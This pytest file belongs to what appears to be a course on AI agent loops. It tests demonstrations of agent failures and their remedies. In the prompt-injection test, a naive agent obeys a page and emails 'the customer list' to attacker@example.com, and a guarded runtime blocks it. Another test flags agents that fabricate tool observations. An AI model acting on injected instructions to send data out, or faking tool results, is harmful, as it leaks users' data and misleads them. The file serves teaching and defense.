"""The failure-table demonstrations: each row's remedy does what the row says."""

import pytest

from course.loop.agent_loop import StopReason, StopRules, run_loop
from course.loop.failures import (
    ConversionAgent,
    FailureDemo,
    Inventory,
    all_demos,
    audit_observations,
    demo_cost,
    demo_error_accumulation,
    demo_fabricated_results,
    demo_looping,
    demo_prompt_injection,
    demo_silent_side_effects,
    demo_wrong_arguments,
    exchange_rate,
    get_weather,
    multiply,
    reference_rate,
)
from course.loop.remedies import agrees, dry_run, keep_recent, with_approval


def test_wrong_arguments_are_refused_before_running():
    run = demo_wrong_arguments().runs["run"]
    assert [s.status for s in run.steps if s.call] == ["unknown_tool", "invalid_arguments", "ok"]
    assert [s.executed for s in run.steps if s.call] == [False, False, True]
    assert run.stop_reason is StopReason.FINAL_ANSWER


def test_fabrication_is_flagged_and_honest_runs_pass():
    demo = demo_fabricated_results()
    bad = audit_observations(demo.runs["fabricated"])
    assert any("wrote its own observation" in p for p in bad)
    assert any("states 22" in p for p in bad)
    assert any("fabricated tool message" in p for p in audit_observations(demo.runs["pasted"]))
    assert audit_observations(demo.runs["honest"]) == []


def test_looping_is_stopped_by_repeat_detection():
    demo = demo_looping(max_steps=6)
    assert demo.runs["off"].stop_reason is StopReason.MAX_STEPS
    assert demo.runs["on"].stop_reason is StopReason.REPEAT
    assert demo.runs["on"].total_tokens < demo.runs["off"].total_tokens


def test_verification_catches_the_wrong_rate():
    demo = demo_error_accumulation(100)
    assert demo.runs["plain"].final_answer == "100 USD = 108.00 EUR"
    assert demo.runs["verified"].final_answer == "100 USD = 92.60 EUR"
    assert len(demo.runs["verified"].plan_history) == 2


def test_conversion_agent_with_a_correct_rate_keeps_its_plan():
    def good_rate(base: str, quote: str) -> str:
        """Correct rate.

        Args:
            base: from.
            quote: to.
        """
        return reference_rate(base, quote)

    run = run_loop("x", ConversionAgent(10, verify=True),
                   {"exchange_rate": good_rate, "reference_rate": reference_rate,
                    "multiply": multiply})
    assert run.final_answer == "10 USD = 9.26 EUR" and len(run.plan_history) == 1
    assert exchange_rate("USD", "EUR") == "1 USD = 1.08 EUR"


def test_injection_row_obeys_the_page_and_the_door_decides():
    demo = demo_prompt_injection()
    naive, guarded = demo.runs.values()
    sent = [s for s in naive.steps if s.call and s.call.name == "send_email"]
    assert sent[0].call.arguments == {"to": "attacker@example.com", "body": "the customer list"}
    assert sent[0].executed and sent[0].status == "ok"  # the naive runtime sent it
    refused = [s for s in guarded.steps if s.call and s.call.name == "send_email"]
    assert not refused[0].executed and refused[0].status == "not_allowed"
    assert "06_guarded_agents.ipynb" in str(demo)


def test_compact_state_costs_fewer_tokens():
    demo = demo_cost()
    full, compact = demo.runs["full"], demo.runs["compact"]
    assert compact.input_tokens < full.input_tokens
    assert [s.input_tokens for s in full.steps] == sorted(s.input_tokens for s in full.steps)
    assert "fewer" in demo.outcome[-2] and demo.outcome[-1] == "unit: word-and-punctuation count, not a tokenizer"


def test_dry_run_writes_nothing_and_approval_gates_the_write():
    demo = demo_silent_side_effects()
    assert "'pallet-B': 0" in demo.outcome[0] and "would have written" in demo.outcome[1]
    assert "said no" in demo.outcome[2] and "'pallet-B': 12}" in demo.outcome[2]
    inventory = Inventory({"a": 1})
    read, write = inventory.tools()
    would: list[str] = []
    assert dry_run(write, would)(item="a", units=5).startswith("DRY RUN") and inventory.stock == {"a": 1}
    assert would == ["set_stock({'item': 'a', 'units': 5})"] and read("a") == "a: 1 units"
    assert with_approval(write, lambda name, arguments: False)(item="a", units=5).startswith("not executed")
    assert inventory.stock == {"a": 1}
    assert with_approval(write, lambda name, arguments: True)(item="a", units=5) == "done: set a from 1 to 5"
    assert inventory.stock == {"a": 5}


def test_remedies_in_a_few_lines():
    assert agrees(0.93, 0.926) and not agrees(1.08, 0.926)
    messages = [{"role": "system", "content": "s"}, {"role": "user", "content": "t"}]
    steps = [{"role": r, "content": str(i)} for i in range(3) for r in ("assistant", "tool")]
    kept = keep_recent(messages + steps)
    assert kept[:2] == messages and kept[-2:] == steps[-2:] and "2 earlier step(s)" in kept[2]["content"]
    assert keep_recent(messages) == messages


def test_weather_tool_and_all_rows():
    assert get_weather("Paris", "imperial") == "Paris: 57 °F, partly cloudy"
    assert "no weather data" in get_weather("Atlantis")
    demos = all_demos()
    assert len(demos) == 7 and all(isinstance(d, FailureDemo) and d.outcome for d in demos)


def test_bad_input_to_the_loop_is_rejected():
    with pytest.raises(ValueError):
        StopRules(max_steps=0)
